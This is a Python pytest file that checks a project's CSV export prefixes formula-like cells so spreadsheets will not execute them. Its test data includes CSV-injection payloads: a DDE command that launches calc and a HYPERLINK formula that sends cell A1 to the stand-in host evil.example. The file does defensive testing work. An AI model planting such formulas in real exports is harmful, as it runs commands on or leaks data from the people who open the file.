"""CSV exports neutralise cells a spreadsheet would run as formulas (OWASP's CSV injection advice)."""

from __future__ import annotations

import csv
import io

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import select
from sqlalchemy.orm import Session

from deliveryops.web.csv_export import SafeCsvWriter, SafeDictWriter, safe_cell
from deliveryops.work.models import WorkItem
from tests.factories import join, login, make_user
from tests.flow.test_flow_service import steady_team


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ('=HYPERLINK("http://x","y")', '\'=HYPERLINK("http://x","y")'),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-", "'-"),
        ("Plain title", "Plain title"),
        ("a=b", "a=b"),
        ("-3.5", "-3.5"),
        ("+1", "+1"),
        ("-1e-3", "-1e-3"),
        (-3.5, -3.5),
        (None, None),
    ],
)
def test_safe_cell(value: object, written: object) -> None:
    assert safe_cell(value) == written


def test_writers_neutralise_every_cell() -> None:
    out = io.StringIO()
    SafeCsvWriter(out, lineterminator="\n").writerows([["=1", -2, "ok"]])
    rows = io.StringIO()
    writer = SafeDictWriter(rows, fieldnames=["@head", "b"], lineterminator="\n")
    writer.writeheader()
    writer.writerow({"@head": "=x", "b": "-y"})
    assert out.getvalue() == "'=1,-2,ok\n"
    assert list(csv.reader(io.StringIO(rows.getvalue()))) == [["'@head", "b"], ["'=x", "'-y"]]


def test_flow_csv_download_neutralises_a_formula_title(client: TestClient, session: Session) -> None:
    team = steady_team(session)
    item = session.scalar(select(WorkItem).where(WorkItem.team_id == team.id, WorkItem.external_key == "M-1"))
    assert item is not None
    item.title = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    member = make_user(session)
    join(session, team, member)
    session.commit()
    login(client, member.email)
    response = client.get(f"/teams/{team.slug}/flow/cycle-times.csv?from=2026-03-01&to=2026-03-05")
    assert response.status_code == 200
    rows = {row["key"]: row for row in csv.DictReader(io.StringIO(response.text))}
    assert rows["M-1"]["title"] == "'" + '=HYPERLINK("http://evil.example/?"&A1,"Click")'
